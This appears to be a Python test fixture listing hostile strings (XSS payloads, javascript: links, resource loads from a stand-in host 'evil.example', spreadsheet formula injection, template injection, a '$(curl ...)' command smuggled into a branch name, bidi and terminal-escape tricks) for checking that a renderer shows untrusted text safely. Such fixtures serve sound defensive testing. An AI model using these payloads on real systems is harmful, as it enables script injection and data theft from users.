"""Texts that would do something where they are taken for more than text: each runs a script, asks a host, or hides what it says."""

HOST = "evil.example"
"""The host that they would ask; nobody has it."""

RAN = "hostileTextRan"
"""What a script of theirs would set of the window."""

_RUN = f"window.{RAN}=1"

HOSTILE_TEXTS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=https://{HOST}/1.png>",
    f'"><svg onload={_RUN}>',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    f"</span></pre></div></style><iframe src=//{HOST}/2></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<style>@import url(https://{HOST}/3.css);*{{background:url(//{HOST}/4.png)}}</style>",
    f"<link rel=stylesheet href=//{HOST}/5.css><base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/6'>",
    f"<object data=//{HOST}/7></object><embed src=//{HOST}/8>",
    f"<video src=//{HOST}/9 autoplay></video><audio src=//{HOST}/10 autoplay></audio>",
    f"<form action=//{HOST}/11><button autofocus>go</button></form>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template><x-y onclick={_RUN}>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>parent.{RAN}=1</script>",
    f"![x](https://{HOST}/12.png)",
    f"[a](javascript:{_RUN}) [b](https://{HOST}/13)",
    f"[![x](//{HOST}/14.png)](//{HOST}/15)\n\n[r]: https://{HOST}/16",
    f"# heading\n\n> quote\n\n| a | b |\n| - | - |\n| ![](//{HOST}/17.png) | <b>x</b> |",
    f"```html\n<script>{_RUN}</script>\n```\n~~~\n",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$ $\\includegraphics{{https://{HOST}/18.png}}$",
    ":red[x] :material/home: :streamlit: :blue-background[y] :small[z] :rainbow[w]",
    f":red[![x](https://{HOST}/19.png)] -> <- :shortcode:",
    f"=HYPERLINK(\"https://{HOST}/20\") +cmd|' /C calc'!A0",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} #{{{_RUN}}}",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62; %3Cscript%3E",
    "a\u202egnp.exe\u202c \u2066left\u2069 \u200f\u061c\u200b\ufeff",
    "\x1b[31mred\x1b]8;;https://evil.example/21\x07link\x1b]8;;\x07 \x07\x9b",
    "\x00NUL\x01\x7f \u2028line\u2029paragraph \U000e0041\U000e0042 \ufff9anno\ufffb",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ " * 4,
    f"__proto__ constructor toString <img src=//{HOST}/22 " + "x" * 300,
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a><animate attributeName=href values=javascript:{_RUN}></svg>",
    f"<javascript:{_RUN}> <https://{HOST}/23> https://{HOST}/24.png",
    f"[a](java&#x0A;script:{_RUN}) [b](\tjavascript:{_RUN}) [c](JaVaScRiPt&colon;{_RUN}) [d](vbscript:x)",
    f'![x][r] [y][r]\n\n[r]: //{HOST}/25.png "t"\n\n[^1]: ![](//{HOST}/26.png)',
    f"--- a/<img src=//{HOST}/27>\n+++ b/javascript:{_RUN}\n@@ -1 +1 @@\n-<b onmouseover={_RUN}>\n+<img src=x onerror={_RUN}>",
    f"feature/$(curl {HOST}/28);<script>{_RUN}</script>`{_RUN}`",
    f'{{"todos": [{{"content": "<img src=x onerror={_RUN}>", "status": "<svg/onload={_RUN}>"}}], "image": "https://{HOST}/29.png"}}',
    f"<!--><img src=x onerror={_RUN}>--> <![CDATA[<img src=//{HOST}/30>]]> <?xml-stylesheet href=//{HOST}/31?>",
    f"<picture><source srcset=//{HOST}/32><img srcset='//{HOST}/33 2x'></picture><portal src=//{HOST}/34></portal>",
    "> " * 40 + f"- [ ] <input autofocus onfocus={_RUN}>\n" + "*" * 200 + f"[x]({'(' * 60}//{HOST}/35",
)
